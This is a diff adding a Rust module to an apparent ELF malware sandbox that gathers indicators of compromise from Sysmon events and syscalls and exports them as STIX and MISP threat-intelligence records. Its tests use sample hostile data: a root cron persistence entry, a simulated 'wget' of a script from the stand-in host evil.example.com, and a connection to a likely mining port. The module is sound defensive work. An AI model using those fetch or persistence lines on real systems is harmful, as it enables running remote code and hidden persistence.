@@ -0,0 +1,679 @@
+use std::{
+    collections::{BTreeMap, HashMap},
+    fmt, fs,
+    net::IpAddr,
+    path::Path,
+};
+
+use anyhow::Result;
+use chrono::{DateTime, FixedOffset, SecondsFormat, Utc};
+use regex::Regex;
+use serde_json::{json, Value};
+use uuid::Uuid;
+
+use crate::{
+    attack::TechniqueUsage,
+    elf::FileHashes,
+    score::{ThreatScore, Verdict},
+    syscall::Syscall,
+    syslog::SyslogEntry,
+    sysmon::SysmonEventData,
+};
+
+// the hosts of a scan are random victims, not infrastructure of the target
+const SCAN_MIN_HOSTS: usize = 10;
+
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Ioc {
+    // the target or a file it dropped, at its path in the container
+    File {
+        path: String,
+        dropped: bool,
+        md5: String,
+        sha1: String,
+        sha256: String,
+    },
+    Domain(String),
+    Endpoint(IpAddr, u16),
+    Url(String),
+    CreatedPath(String),
+}
+
+impl fmt::Display for Ioc {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::File { path, sha256, .. } => write!(f, "file {} {}", path, sha256),
+            Self::Domain(domain) => write!(f, "domain {}", domain),
+            Self::Endpoint(ip, port) => write!(f, "endpoint {}", endpoint(ip, *port)),
+            Self::Url(url) => write!(f, "url {}", url),
+            Self::CreatedPath(path) => write!(f, "path {}", path),
+        }
+    }
+}
+
+impl Ioc {
+    pub fn to_json(&self) -> Value {
+        return match self {
+            Self::File {
+                path,
+                dropped,
+                md5,
+                sha1,
+                sha256,
+            } => json!({
+                "type": "file",
+                "path": path,
+                "dropped": dropped,
+                "md5": md5,
+                "sha1": sha1,
+                "sha256": sha256,
+            }),
+            Self::Domain(domain) => json!({ "type": "domain", "value": domain }),
+            Self::Endpoint(ip, port) => json!({ "type": "endpoint", "ip": ip, "port": port }),
+            Self::Url(url) => json!({ "type": "url", "value": url }),
+            Self::CreatedPath(path) => json!({ "type": "path", "value": path }),
+        };
+    }
+}
+
+fn endpoint(ip: &IpAddr, port: u16) -> String {
+    return match ip {
+        IpAddr::V4(ip) => format!("{}:{}", ip, port),
+        IpAddr::V6(ip) => format!("[{}]:{}", ip, port),
+    };
+}
+
+// loopback, private and link-local addresses are the sandbox's own network
+fn is_public(ip: &IpAddr) -> bool {
+    return match ip {
+        IpAddr::V4(ip) => {
+            !(ip.is_loopback()
+                || ip.is_private()
+                || ip.is_link_local()
+                || ip.is_unspecified()
+                || ip.is_broadcast()
+                || ip.is_multicast())
+        }
+        IpAddr::V6(ip) => {
+            let first = ip.segments()[0];
+
+            !(ip.is_loopback()
+                || ip.is_unspecified()
+                || ip.is_multicast()
+                || first & 0xfe00 == 0xfc00
+                || first & 0xffc0 == 0xfe80)
+        }
+    };
+}
+
+fn domain(name: &str) -> Option<String> {
+    let name = name.trim().trim_end_matches('.').to_lowercase();
+
+    if !name.contains('.') || name.parse::<IpAddr>().is_ok() {
+        return None;
+    }
+
+    return Some(name);
+}
+
+// deduplicated indicators with the time they were first seen
+#[derive(Debug)]
+pub struct IocCollector {
+    iocs: BTreeMap<Ioc, DateTime<FixedOffset>>,
+    url_regex: Regex,
+}
+
+impl Default for IocCollector {
+    fn default() -> Self {
+        return Self::new();
+    }
+}
+
+impl IocCollector {
+    pub fn new() -> Self {
+        return Self {
+            iocs: BTreeMap::new(),
+            url_regex: Regex::new(r#"(?i)\b(?:https?|ftp|tftp)://[^\s'"<>\\]+"#).unwrap(),
+        };
+    }
+
+    fn add(&mut self, ioc: Ioc, time: DateTime<FixedOffset>) {
+        let first_seen = self.iocs.entry(ioc).or_insert(time);
+        *first_seen = (*first_seen).min(time);
+    }
+
+    fn add_urls(&mut self, s: &str, time: DateTime<FixedOffset>) {
+        let urls: Vec<String> = self
+            .url_regex
+            .find_iter(s)
+            .map(|m| m.as_str().to_string())
+            .collect();
+
+        for url in urls {
+            let host = url
+                .split_once("://")
+                .and_then(|(_, rest)| rest.split(['/', ':', '?', '#']).next())
+                .and_then(domain);
+
+            if let Some(host) = host {
+                self.add(Ioc::Domain(host), time);
+            }
+
+            self.add(Ioc::Url(url), time);
+        }
+    }
+
+    pub fn add_event(&mut self, e: &SyslogEntry) {
+        let time = e.sysmon_event.time_created;
+
+        match &e.sysmon_event.data {
+            SysmonEventData::ProcessCreate(p) => {
+                if let Some(command_line) = &p.command_line {
+                    self.add_urls(command_line, time);
+                }
+            }
+            SysmonEventData::NetworkConnect(n) => {
+                if is_public(&n.destination_ip) {
+                    self.add(Ioc::Endpoint(n.destination_ip, n.destination_port), time);
+                }
+
+                if let Some(domain) = n.destination_hostname.as_deref().and_then(domain) {
+                    self.add(Ioc::Domain(domain), time);
+                }
+            }
+            SysmonEventData::DnsQuery(d) => {
+                if let Some(domain) = domain(&d.query_name) {
+                    self.add(Ioc::Domain(domain), time);
+                }
+            }
+            SysmonEventData::FileCreate(f) => {
+                self.add(Ioc::CreatedPath(f.target_filename.clone()), time)
+            }
+            _ => (),
+        }
+    }
+
+    pub fn add_syscall(&mut self, s: &Syscall) {
+        if let Some((ip, port)) = s.destination() {
+            if is_public(&ip) {
+                self.add(Ioc::Endpoint(ip, port), s.time);
+            }
+        }
+
+        if s.error.is_some() {
+            return;
+        }
+
+        match s.name.as_str() {
+            "execve" | "execveat" => self.add_urls(&s.args.join(" "), s.time),
+            "creat" => {
+                if let Some(path) = s.field("arg0") {
+                    self.add(Ioc::CreatedPath(path.trim_matches('"').to_string()), s.time);
+                }
+            }
+            "open" | "openat" => {
+                let (path, flags) = if s.name == "open" {
+                    (s.field("arg0"), s.field("arg1"))
+                } else {
+                    (s.field("arg1"), s.field("arg2"))
+                };
+
+                if let (Some(path), Some(flags)) = (path, flags) {
+                    if flags.contains("O_CREAT") {
+                        self.add(Ioc::CreatedPath(path.trim_matches('"').to_string()), s.time);
+                    }
+                }
+            }
+            _ => (),
+        }
+    }
+
+    pub fn add_file(&mut self, path: &Path, name: &str, dropped: bool) -> Result<()> {
+        let hashes = FileHashes::from_bytes(&fs::read(path)?);
+        let modified: DateTime<Utc> = fs::metadata(path)?.modified()?.into();
+
+        self.add(
+            Ioc::File {
+                path: name.to_string(),
+                dropped,
+                md5: hashes.md5,
+                sha1: hashes.sha1,
+                sha256: hashes.sha256,
+            },
+            modified.fixed_offset(),
+        );
+
+        return Ok(());
+    }
+
+    pub fn finish(self) -> Vec<(Ioc, DateTime<FixedOffset>)> {
+        let mut hosts_per_port: HashMap<u16, usize> = HashMap::new();
+
+        for ioc in self.iocs.keys() {
+            if let Ioc::Endpoint(_, port) = ioc {
+                *hosts_per_port.entry(*port).or_default() += 1;
+            }
+        }
+
+        return self
+            .iocs
+            .into_iter()
+            .filter(|(ioc, _)| match ioc {
+                Ioc::Endpoint(_, port) => hosts_per_port[port] < SCAN_MIN_HOSTS,
+                _ => true,
+            })
+            .collect();
+    }
+}
+
+// the same run always gets the same ids, so that re-exports update instead of duplicate
+fn id(run_name: &str, kind: &str, value: &str) -> Uuid {
+    return Uuid::new_v5(
+        &Uuid::NAMESPACE_URL,
+        format!("elf-sandbox:{}:{}:{}", run_name, kind, value).as_bytes(),
+    );
+}
+
+fn timestamp(time: &DateTime<FixedOffset>) -> String {
+    return time
+        .with_timezone(&Utc)
+        .to_rfc3339_opts(SecondsFormat::Millis, true);
+}
+
+fn stix_string(s: &str) -> String {
+    return format!("'{}'", s.replace('\\', "\\\\").replace('\'', "\\'"));
+}
+
+// name and pattern of the STIX indicator
+fn stix_indicator(ioc: &Ioc) -> (String, String) {
+    return match ioc {
+        Ioc::File {
+            path,
+            dropped,
+            md5,
+            sha1,
+            sha256,
+        } => (
+            format!("{} {}", if *dropped { "Dropped file" } else { "Target" }, path),
+            format!(
+                "[file:hashes.MD5 = {} OR file:hashes.'SHA-1' = {} OR file:hashes.'SHA-256' = {}]",
+                stix_string(md5),
+                stix_string(sha1),
+                stix_string(sha256)
+            ),
+        ),
+        Ioc::Domain(domain) => (
+            format!("Domain {}", domain),
+            format!("[domain-name:value = {}]", stix_string(domain)),
+        ),
+        Ioc::Endpoint(ip, port) => (
+            format!("Connection to {}", endpoint(ip, *port)),
+            format!(
+                "[network-traffic:dst_ref.type = '{}' AND network-traffic:dst_ref.value = {} AND network-traffic:dst_port = {}]",
+                if ip.is_ipv4() { "ipv4-addr" } else { "ipv6-addr" },
+                stix_string(&ip.to_string()),
+                port
+            ),
+        ),
+        Ioc::Url(url) => (
+            format!("URL {}", url),
+            format!("[url:value = {}]", stix_string(url)),
+        ),
+        Ioc::CreatedPath(path) => {
+            let (dir, name) = path.rsplit_once('/').unwrap_or(("", path));
+
+            (
+                format!("Created file {}", path),
+                format!(
+                    "[file:name = {} AND file:parent_directory_ref.path = {}]",
+                    stix_string(name),
+                    stix_string(if dir.is_empty() { "/" } else { dir })
+                ),
+            )
+        }
+    };
+}
+
+pub fn stix_bundle(
+    run_name: &str,
+    iocs: &[(Ioc, DateTime<FixedOffset>)],
+    threat_score: &ThreatScore,
+) -> Value {
+    let now = timestamp(&Utc::now().fixed_offset());
+    let indicator_type = match threat_score.verdict {
+        Verdict::Malicious => "malicious-activity",
+        _ => "anomalous-activity",
+    };
+
+    let indicators: Vec<Value> = iocs
+        .iter()
+        .map(|(ioc, first_seen)| {
+            let (name, pattern) = stix_indicator(ioc);
+
+            json!({
+                "type": "indicator",
+                "spec_version": "2.1",
+                "id": format!("indicator--{}", id(run_name, "indicator", &pattern)),
+                "created": now,
+                "modified": now,
+                "name": name,
+                "indicator_types": [indicator_type],
+                "pattern": pattern,
+                "pattern_type": "stix",
+                "valid_from": timestamp(first_seen),
+            })
+        })
+        .collect();
+
+    let report = json!({
+        "type": "report",
+        "spec_version": "2.1",
+        "id": format!("report--{}", id(run_name, "report", run_name)),
+        "created": now,
+        "modified": now,
+        "name": format!("elf-sandbox analysis of {}", run_name),
+        "description": format!(
+            "Verdict: {} (score {}/{})",
+            threat_score.verdict,
+            threat_score.score,
+            crate::score::MAX_SCORE
+        ),
+        "report_types": ["malware"],
+        "published": now,
+        "object_refs": indicators.iter().map(|i| i["id"].clone()).collect::<Vec<Value>>(),
+    });
+
+    let mut objects = vec![report];
+    objects.extend(indicators);
+
+    return json!({
+        "type": "bundle",
+        "id": format!("bundle--{}", id(run_name, "bundle", run_name)),
+        "objects": objects,
+    });
+}
+
+// (type, category, value, to_ids) of the MISP attributes
+fn misp_attributes(ioc: &Ioc) -> Vec<(&'static str, &'static str, String, bool)> {
+    return match ioc {
+        Ioc::File {
+            path,
+            dropped,
+            md5,
+            sha1,
+            sha256,
+        } => {
+            let category = if *dropped {
+                "Artifacts dropped"
+            } else {
+                "Payload delivery"
+            };
+
+            vec![
+                ("filename|md5", category, format!("{}|{}", path, md5), true),
+                (
+                    "filename|sha1",
+                    category,
+                    format!("{}|{}", path, sha1),
+                    true,
+                ),
+                (
+                    "filename|sha256",
+                    category,
+                    format!("{}|{}", path, sha256),
+                    true,
+                ),
+            ]
+        }
+        Ioc::Domain(domain) => vec![("domain", "Network activity", domain.clone(), true)],
+        Ioc::Endpoint(ip, port) => vec![(
+            "ip-dst|port",
+            "Network activity",
+            format!("{}|{}", ip, port),
+            true,
+        )],
+        Ioc::Url(url) => vec![("url", "Network activity", url.clone(), true)],
+        // paths alone are too common to alert on
+        Ioc::CreatedPath(path) => vec![("filename", "Artifacts dropped", path.clone(), false)],
+    };
+}
+
+pub fn misp_event(
+    run_name: &str,
+    iocs: &[(Ioc, DateTime<FixedOffset>)],
+    threat_score: &ThreatScore,
+    techniques: &[TechniqueUsage],
+) -> Value {
+    let now = Utc::now();
+    let threat_level_id = match threat_score.verdict {
+        Verdict::Malicious => "1",
+        Verdict::Suspicious => "2",
+        Verdict::Benign => "3",
+    };
+
+    let attributes: Vec<Value> = iocs
+        .iter()
+        .flat_map(|(ioc, first_seen)| {
+            misp_attributes(ioc)
+                .into_iter()
+                .map(move |(kind, category, value, to_ids)| {
+                    json!({
+                        "uuid": id(run_name, kind, &value),
+                        "type": kind,
+                        "category": category,
+                        "value": value,
+                        "to_ids": to_ids,
+                        "first_seen": timestamp(first_seen),
+                    })
+                })
+        })
+        .collect();
+
+    let mut tags = vec![
+        json!({ "name": "elf-sandbox" }),
+        json!({ "name": format!("elf-sandbox:verdict=\"{}\"", threat_score.verdict) }),
+    ];
+    tags.extend(techniques.iter().filter_map(|t| {
+        t.name.as_ref().map(|name| {
+            json!({
+                "name": format!(
+                    "misp-galaxy:mitre-attack-pattern=\"{} - {}\"",
+                    name, t.technique_id
+                ),
+            })
+        })
+    }));
+
+    return json!({
+        "Event": {
+            "uuid": id(run_name, "event", run_name),
+            "info": format!(
+                "elf-sandbox analysis of {} ({}, score {}/{})",
+                run_name,
+                threat_score.verdict,
+                threat_score.score,
+                crate::score::MAX_SCORE
+            ),
+            "date": now.format("%Y-%m-%d").to_string(),
+            "timestamp": now.timestamp().to_string(),
+            "threat_level_id": threat_level_id,
+            "analysis": "2",
+            "distribution": "0",
+            "published": false,
+            "Attribute": attributes,
+            "Tag": tags,
+        }
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use std::{env, process};
+
+    use common::TARGET_FILE_NAME;
+
+    use super::*;
+    use crate::rule::tests::syscall;
+
+    const CRON_JOB: &str = "* * * * * root /tmp/.x/kworker\n";
+    const CRON_JOB_SHA256: &str =
+        "b72f9eb5dc631f0304244ecbc6c26c17075a7454100afbaa8efc7f39fa5fb8d8";
+
+    fn threat_score(verdict: Verdict) -> ThreatScore {
+        return ThreatScore {
+            score: 85,
+            verdict,
+            reasons: vec![],
+        };
+    }
+
+    // the target and a file it dropped, as the analysis collects them from the result directory
+    fn collected_iocs() -> Vec<(Ioc, DateTime<FixedOffset>)> {
+        let dir = env::temp_dir().join(format!("elf-sandbox-ioc-{}", process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(dir.join("update"), CRON_JOB).unwrap();
+        fs::write(dir.join(TARGET_FILE_NAME), "\x7fELF").unwrap();
+
+        let mut collector = IocCollector::new();
+        collector
+            .add_file(&dir.join("update"), "/etc/cron.d/update", true)
+            .unwrap();
+        collector
+            .add_file(&dir.join(TARGET_FILE_NAME), TARGET_FILE_NAME, false)
+            .unwrap();
+        collector.add_syscall(&syscall(
+            "4321  1691668812.120000 connect(3, {sa_family=AF_INET, sin_port=htons(3333), sin_addr=inet_addr(\"198.51.100.7\")}, 16) = 0",
+        ));
+        collector.add_syscall(&syscall(
+            "4321  1691668812.121000 connect(4, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr(\"10.0.3.1\")}, 16) = 0",
+        ));
+        collector.add_syscall(&syscall(
+            "4321  1691668812.122000 execve(\"/usr/bin/wget\", [\"wget\", \"http://evil.example.com/x.sh\"], 0x7ffd1a2b3c40 /* 12 vars */) = 0",
+        ));
+
+        fs::remove_dir_all(&dir).unwrap();
+
+        return collector.finish();
+    }
+
+    #[test]
+    fn collect_dropped_files_and_network() {
+        let iocs: Vec<Ioc> = collected_iocs().into_iter().map(|(ioc, _)| ioc).collect();
+
+        assert!(iocs.iter().any(|ioc| matches!(
+            ioc,
+            Ioc::File { path, dropped: true, sha256, .. }
+                if path == "/etc/cron.d/update" && sha256 == CRON_JOB_SHA256
+        )));
+        assert!(iocs.iter().any(|ioc| matches!(
+            ioc,
+            Ioc::File { path, dropped: false, .. } if path == TARGET_FILE_NAME
+        )));
+        assert!(iocs.contains(&Ioc::Endpoint("198.51.100.7".parse().unwrap(), 3333)));
+        assert!(iocs.contains(&Ioc::Domain("evil.example.com".to_string())));
+        assert!(iocs.contains(&Ioc::Url("http://evil.example.com/x.sh".to_string())));
+        // the sandbox's own network
+        assert!(!iocs
+            .iter()
+            .any(|ioc| matches!(ioc, Ioc::Endpoint(ip, _) if ip.to_string() == "10.0.3.1")));
+    }
+
+    #[test]
+    fn scanned_hosts_are_not_iocs() {
+        let mut collector = IocCollector::new();
+
+        for host in 1..=SCAN_MIN_HOSTS {
+            collector.add_syscall(&syscall(&format!(
+                "4321  1691668812.130000 connect(5, {{sa_family=AF_INET, sin_port=htons(23), sin_addr=inet_addr(\"203.0.113.{}\")}}, 16) = -1 EINPROGRESS (Operation now in progress)",
+                host
+            )));
+        }
+
+        assert!(collector.finish().is_empty());
+    }
+
+    #[test]
+    fn stix_indicators_of_dropped_files() {
+        let iocs = collected_iocs();
+        let bundle = stix_bundle("run1", &iocs, &threat_score(Verdict::Malicious));
+        let objects = bundle["objects"].as_array().unwrap();
+
+        assert_eq!(bundle["type"], "bundle");
+        assert_eq!(objects[0]["type"], "report");
+        assert_eq!(
+            objects[0]["object_refs"].as_array().unwrap().len(),
+            iocs.len()
+        );
+
+        let dropped = objects
+            .iter()
+            .find(|o| o["name"] == "Dropped file /etc/cron.d/update")
+            .unwrap();
+        assert_eq!(dropped["indicator_types"][0], "malicious-activity");
+        assert!(dropped["pattern"]
+            .as_str()
+            .unwrap()
+            .ends_with(&format!("file:hashes.'SHA-256' = '{}']", CRON_JOB_SHA256)));
+        assert!(objects.iter().any(|o| o["name"] == "Target target.bin"));
+        assert!(objects.iter().any(|o| o["pattern"]
+            == "[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '198.51.100.7' AND network-traffic:dst_port = 3333]"));
+
+        // ids are derived from the run, re-exports update the same objects
+        let again = stix_bundle("run1", &iocs, &threat_score(Verdict::Suspicious));
+        assert_eq!(bundle["id"], again["id"]);
+        let dropped_again = again["objects"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|o| o["name"] == "Dropped file /etc/cron.d/update")
+            .unwrap();
+        assert_eq!(dropped["id"], dropped_again["id"]);
+    }
+
+    #[test]
+    fn stix_patterns_are_escaped() {
+        let (name, pattern) = stix_indicator(&Ioc::CreatedPath("/tmp/it's\\here".to_string()));
+
+        assert_eq!(name, "Created file /tmp/it's\\here");
+        assert_eq!(
+            pattern,
+            "[file:name = 'it\\'s\\\\here' AND file:parent_directory_ref.path = '/tmp']"
+        );
+    }
+
+    #[test]
+    fn misp_attributes_of_dropped_files() {
+        let iocs = collected_iocs();
+        let techniques = vec![TechniqueUsage {
+            technique_id: "T1053.003".to_string(),
+            name: Some("Cron".to_string()),
+            tactic: Some("Persistence".to_string()),
+            sources: vec!["cron".to_string()],
+            count: 1,
+        }];
+        let event = misp_event(
+            "run1",
+            &iocs,
+            &threat_score(Verdict::Malicious),
+            &techniques,
+        );
+        let attributes = event["Event"]["Attribute"].as_array().unwrap();
+
+        assert_eq!(event["Event"]["threat_level_id"], "1");
+        assert!(attributes.iter().any(|a| a["type"] == "filename|sha256"
+            && a["category"] == "Artifacts dropped"
+            && a["value"] == format!("/etc/cron.d/update|{}", CRON_JOB_SHA256)
+            && a["to_ids"] == true));
+        assert!(attributes
+            .iter()
+            .any(|a| a["category"] == "Payload delivery" && a["type"] == "filename|md5"));
+        assert!(attributes
+            .iter()
+            .any(|a| a["type"] == "ip-dst|port" && a["value"] == "198.51.100.7|3333"));
+        assert!(event["Event"]["Tag"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|t| t["name"] == "misp-galaxy:mitre-attack-pattern=\"Cron - T1053.003\""));
+    }
+}